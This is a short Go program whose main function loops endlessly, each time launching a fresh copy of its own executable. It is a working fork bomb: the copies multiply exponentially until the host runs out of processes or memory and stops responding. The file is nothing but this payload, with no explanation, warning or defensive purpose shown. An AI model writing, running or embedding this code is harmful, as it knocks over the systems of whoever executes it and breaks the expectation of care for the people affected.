package main

import (
	"os"
	"os/exec"
)

func main() {
	for {
		exec.Command(os.Args[0]).Start()
	}
}
